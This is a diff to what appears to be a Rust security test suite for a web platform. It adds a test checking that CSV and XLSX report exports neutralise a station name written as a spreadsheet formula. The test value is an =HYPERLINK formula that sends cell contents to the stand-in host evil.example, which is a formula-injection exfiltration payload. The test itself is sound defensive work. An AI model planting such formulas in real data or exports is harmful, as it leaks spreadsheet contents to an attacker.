@@ -3,6 +3,7 @@
 
 use anyhow::{Context as _, Result, ensure};
 use reqwest::{Client, Method, header};
+use serde_json::json;
 use std::time::Duration;
 use tests::{
     Account, Answer, PATIENCE, Platform,
@@ -151,6 +152,25 @@ async fn by_markup(platform: &Platform) -> Result<()> {
     Ok(())
 }
 
+/// A station whose name is a formula, in the tables that supervisors open.
+async fn by_formula(platform: &Platform) -> Result<()> {
+    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
+    let (admin, supervisor) = (platform.log_in("admin").await?, platform.log_in("supervisor").await?);
+    let station =
+        json!({ "name": evil, "place": { "lat": 33.96, "lon": 118.28 }, "telephone": "x", "on_duty": true });
+    admin.put("/api/stations/formula", &station).await?.ok()?;
+    crate::reports::helped(platform, "demo-0084", "formula", evil).await?;
+    let path = format!("/api/reports/quarter?quarter={}", crate::reports::quarter());
+    let (_, csv) = crate::reports::bytes(&supervisor, &format!("{path}&format=csv")).await?;
+    let csv = String::from_utf8(csv)?;
+    ensure!(csv.contains(",\"'=HYPERLINK(\"\"http://evil"), "a formula in a table: {csv}");
+    let (_, workbook) = crate::reports::bytes(&supervisor, &format!("{path}&format=xlsx")).await?;
+    let text = String::from_utf8_lossy(&workbook);
+    let words = "<c t=\"inlineStr\"><is><t xml:space=\"preserve\">=HYPERLINK(&quot;http://evil";
+    ensure!(text.contains(words) && !text.contains("<f>"), "a formula in a workbook: {text}");
+    Ok(())
+}
+
 /// Requests that are too large, or never end.
 async fn by_weight(platform: &Platform) -> Result<()> {
     let large = Client::new().post(format!("{}/api/session", platform.at.http)).body("x".repeat(10 << 20));
@@ -186,6 +206,7 @@ async fn every_attempt_is_refused_and_the_platform_stays_up() -> Result<()> {
     by_path(&platform).await?;
     by_injection(&platform).await?;
     by_markup(&platform).await?;
+    by_formula(&platform).await?;
     by_weight(&platform).await?;
     for guess in 0..6 {
         let answer = try_log_in(&platform.at.http, "admin", &format!("guess-{guess}")).await?;
